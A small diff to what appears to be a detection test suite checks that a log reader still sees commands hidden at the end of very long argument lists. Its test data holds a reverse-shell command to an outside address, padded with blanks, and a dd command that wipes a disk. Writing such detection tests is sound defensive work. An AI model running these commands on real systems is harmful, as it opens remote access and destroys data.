@@ -59,7 +59,7 @@ def read(log: str) -> tuple[Reader, set[str]]:
         (("bash", "-c", " " * 130_000 + "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"), "reverse_shell"),
         (("dd", *["bs=1048576"] * 150_000, "if=/dev/zero", "of=/dev/sda"), "disk_wiped"),
     ],
-    ids=["many arguments", "many blanks", "all that the kernel takes"],
+    ids=["many arguments", "many blanks", "as many as fit"],
 )
 def test_what_is_at_the_end_of_a_command_line_is_read(arguments: tuple[str, ...], alert: str) -> None:
     reader, alerts = read(records(*arguments))
